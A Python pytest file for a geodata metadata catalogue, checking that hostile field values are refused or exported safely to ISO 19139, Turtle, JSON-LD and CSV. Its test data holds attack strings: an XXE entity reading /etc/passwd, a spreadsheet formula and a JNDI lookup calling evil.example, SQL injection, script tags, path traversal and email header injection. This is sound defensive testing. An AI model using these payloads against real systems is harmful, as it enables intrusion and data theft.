"""Hostile texts typed or pasted into a record: tagged, checked and exported through the public API.

Each value is refused by ``api.tag`` with a stable code (the layer unchanged), or accepted; then
``api.check`` reports without raising, and ``api.export`` either refuses with a code the check gave
first (nothing written) or writes files that parse (ISO 19139, Turtle, JSON-LD, CSV) and keep the value.
"""
import csv
import json
import os

import pytest
import rdflib
from lxml import etree

from passerelle import api
from passerelle.catalogue.encoders import iso19139
from passerelle.catalogue.errors import ExportRefusedError, PasserelleError
from support.hostile_run import shown

TAG_CODES = {"metadata.control-characters", "metadata.too-long", "metadata.email-invalid", "metadata.uri-invalid",
             "vocabulary.unknown", "tag.invalid"}
CONTROLS = [chr(c) for c in list(range(0x00, 0x09)) + [0x0B, 0x0C] + list(range(0x0E, 0x20)) + [0x7F, 0x80, 0x85, 0x9F]]

TITLES = {
    "xml-specials": "Réseau <eau> & \"assainissement\" 'communal'",
    "cdata-end": "Titre ]]> suite",
    "entity-text": "&lt;script&gt; &amp; &#x0B; &unknown;",
    "doctype-text": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "xml-comment": "<!-- commentaire --> titre",
    "rtl-arabic": "شبكة الطرق البلدية",
    "rtl-hebrew": "רשת הכבישים העירונית",
    "rtl-override": "Parcelles \u202egpj.exe\u202c cadastrales",
    "bidi-isolates": "Zones \u2066isolées\u2069 \u200f",
    "emoji": "Arrêts de bus 🚌🚏",
    "emoji-zwj": "Familles 👨‍👩‍👧‍👦 et drapeaux 🇫🇷🏳️‍🌈",
    "astral-math": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝕥𝕚𝕥𝕝𝕖",
    "combining": "E\u0301glise Z\u0336\u0337a\u0338l\u0335g\u0334o",
    "zero-width": "Ti\u200btre\u200c in\u200dvisible\ufeff",
    "bom-start": "\ufeffTitre après BOM",
    "nbsp": "Titre\u00a0insécable\u202fétroit",
    "formula": '=HYPERLINK("http://evil.example/?x","clic")',
    "formula-plus": "+33 123 456",
    "formula-at": "@SUM(A1:A9)",
    "sql": "'; DROP TABLE records; --",
    "format-string": "{0}{title!r}%s%n%x${jndi:ldap://evil.example/a}",
    "path-like": "../../../../etc/passwd",
    "windows-path": "C:\\Windows\\System32\\con",
    "html-script": "<script>alert('xss')</script>",
    "max-length": "x" * 250,
    "one-over": "x" * 251,
    "hundred-k": "Titre " + "très long " * 10_000,
    "only-spaces": "     ",
    "lone-surrogate": "Titre \ud800 cassé",
    "non-characters": "Titre \ufffe\uffff",
    "latin1-mojibake": "Ã‰glise Saint-Ã‰tienne",
    "private-use": "Titre \ue000\U000f0000",
    **{f"control-{ord(c):02x}": f"Titre{c}fin" for c in CONTROLS},
}
OTHER_FIELDS = {
    "abstract-100k": ("abstract", "Résumé. " * 20_000),
    "abstract-vt": ("abstract", "Ligne 1\x0bLigne 2"),
    "abstract-multiline": ("abstract", "Ligne 1\r\nLigne 2\tcolonne\n"),
    "lineage-nul": ("lineage", "Source\x00cachée"),
    "keywords-many": ("keywords", [f"mot-clé {i}" for i in range(500)]),
    "keyword-long": ("keywords", ["m" * 101]),
    "keyword-xml": ("keywords", ["<b>gras</b>", "a&b", "]]>"]),
    "keyword-empty": ("keywords", ["", "  "]),
    "place-rtl": ("place", "القدس"),
    "email-space": ("contact", {"organisation": "Mairie", "email": "sig @mairie.fr"}),
    "email-two-at": ("contact", {"organisation": "Mairie", "email": "sig@@mairie.fr"}),
    "email-angle": ("contact", {"organisation": "Mairie", "email": "<sig@mairie.fr>"}),
    "email-list": ("contact", {"organisation": "Mairie", "email": "a@mairie.fr, b@mairie.fr"}),
    "email-idn": ("contact", {"organisation": "Mairie", "email": "élu@mairie-évian.fr"}),
    "email-newline": ("contact", {"organisation": "Mairie", "email": "sig@mairie.fr\nBcc: x@evil.example"}),
    "organisation-xml": ("contact", {"organisation": "<Mairie> & \"fils\"", "email": "sig@mairie.fr"}),
    "schema-space": ("schema", "https://schema.example.fr/mon schéma.json"),
    "schema-quote": ("schema", 'https://schema.example.fr/a"b.json'),
    "schema-javascript": ("schema", "javascript:alert(1)"),
    "schema-file": ("schema", "file:///etc/passwd"),
    "link-braces": ("links", [{"url": "https://geo.example.fr/{x}", "name": "lien"}]),
    "link-javascript": ("links", [{"url": "javascript:alert(1)", "name": "lien"}]),
    "date-invalid": ("last_revision", "2026-02-30"),
    "date-far": ("last_revision", "9999-12-31"),
    "frequency-unknown": ("frequency", "quand ça nous chante"),
    "licence-injection": ("licence", "<script>"),
    "themes-huge": ("themes", ["us"] * 1000),
}
CASES = [pytest.param("title", value, id=f"title-{key}") for key, value in TITLES.items()] + \
    [pytest.param(field, value, id=key) for key, (field, value) in OTHER_FIELDS.items()]


def _value_written(record, field):
    return {"title": record.title, "abstract": record.abstract, "place": record.place}.get(field)


@pytest.mark.hostile("textes")
@pytest.mark.parametrize("field, value", CASES)
def test_a_hostile_text_is_refused_with_its_code_or_written_faithfully(make_layer, tmp_path, field, value):
    layer = make_layer()
    before = api.record(layer).to_dict()
    try:
        api.tag(layer, **{field: value})
        accepted = True
    except PasserelleError as error:
        shown(error)
        assert error.code in TAG_CODES, error.code
        assert api.record(layer).to_dict() == before  # refused: nothing changed
        accepted = False
    report = api.check([layer], formats=api.EXPORT_FORMATS)
    assert "check.failed" not in report.codes()
    folder = tmp_path / "export"
    try:
        written = api.export([layer], str(folder), base_url="https://data.saint-aubin.fr/catalogue/")  # SCDL too
    except ExportRefusedError as refusal:
        shown(refusal)
        assert report.errors and refusal.code  # the check said it first (in its words: metadata.required...)
        assert not folder.exists()  # nothing half-written
        return
    iso = etree.parse(written["iso19139"][0])
    back = iso19139.decode(etree.tostring(iso))
    expected = _value_written(api.record(layer), field)
    if accepted and expected is not None:
        assert _value_written(back, field).strip() == expected.strip()  # kept as typed, specials and all
    rdflib.Graph().parse(written["dcat"][0], format="turtle")
    json.loads(open(written["dcat"][1], encoding="utf-8").read())
    with open(written["scdl"][0], encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert all(os.path.commonpath([str(folder), p]) == str(folder) for paths in written.values() for p in paths)
